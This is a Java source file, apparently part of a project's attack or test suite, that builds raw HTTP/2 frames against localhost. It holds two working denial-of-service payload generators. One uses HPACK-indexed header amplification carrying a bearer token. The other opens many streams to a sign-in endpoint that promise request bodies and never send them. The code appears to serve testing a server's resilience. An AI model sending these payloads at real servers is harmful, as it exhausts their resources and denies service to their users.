package dev.neontasks.attacks;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * The beginning of a connection that speaks HTTP/2 without asking first, and opens streams whose bodies never come (RFC 9113,
 * RFC 7541).
 */
final class ManyStreams {

    private static final int SETTINGS = 4;
    private static final int HEADERS = 1;
    private static final int END_HEADERS = 4;
    private static final int END_STREAM = 1;
    /** Of 33 bytes each, as RFC 9113, 6.5.2, counts them: with all else nearly 8 KiB. */
    private static final int FIELDS = 200;

    private ManyStreams() {
    }

    /** Requests for {@code path} with this token, and many empty fields, all of which take a byte after the first time. */
    static byte[] asking(int streams, String path, String token) {
        var first = new ByteArrayOutputStream();
        var next = new ByteArrayOutputStream();
        for (var fields : List.of(first, next)) {
            // :method GET and :scheme http, of the static table
            fields.write(0x82);
            fields.write(0x86);
            literal(fields, 4, path);
            literal(fields, 1, "localhost");
        }
        indexed(first, "authorization", "Bearer " + token);
        indexed(first, "x", "");
        // Newest first, after the 61 of the static table.
        next.write(0x80 | 63);
        for (var fields = 0; fields < FIELDS; fields++) {
            first.write(0x80 | 62);
            next.write(0x80 | 62);
        }
        var out = begun();
        for (var stream = 0; stream < streams; stream++) {
            frame(out, HEADERS, END_HEADERS | END_STREAM, 2 * stream + 1, (stream == 0 ? first : next).toByteArray());
        }
        return out.toByteArray();
    }

    private static ByteArrayOutputStream begun() {
        var out = new ByteArrayOutputStream();
        out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(out, SETTINGS, 0, 0, new byte[0]);
        return out;
    }

    /** A new name and its value, which are remembered. */
    private static void indexed(ByteArrayOutputStream out, String name, String value) {
        out.write(0x40);
        for (var text : List.of(name, value)) {
            // A length of more than seven bits goes on in the next bytes.
            if (text.length() < 127) {
                out.write(text.length());
            } else {
                out.write(127);
                var left = text.length() - 127;
                for (; left >= 128; left >>= 7) {
                    out.write(left & 127 | 128);
                }
                out.write(left);
            }
            out.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
        }
    }

    static byte[] unfinished(int streams) {
        var out = begun();
        var fields = post("/api/auth/sign-in");
        for (var stream = 0; stream < streams; stream++) {
            frame(out, HEADERS, END_HEADERS, 2 * stream + 1, fields);
        }
        return out.toByteArray();
    }

    private static byte[] post(String path) {
        var fields = new ByteArrayOutputStream();
        // :method POST and :scheme http, of the static table
        fields.write(0x83);
        fields.write(0x86);
        literal(fields, 4, path);
        literal(fields, 1, "localhost");
        // content-length
        literal(fields, 28, "16000");
        // content-type
        literal(fields, 31, "application/json");
        return fields.toByteArray();
    }

    /** Without indexing, its name out of the static table. */
    private static void literal(ByteArrayOutputStream out, int name, String value) {
        // An index of more than four bits goes on in the next byte.
        if (name < 15) {
            out.write(name);
        } else {
            out.write(15);
            out.write(name - 15);
        }
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] content) {
        out.write(content.length >> 16);
        out.write(content.length >> 8);
        out.write(content.length);
        out.write(type);
        out.write(flags);
        for (var shift = 24; shift >= 0; shift -= 8) {
            out.write(stream >> shift);
        }
        out.writeBytes(content);
    }
}
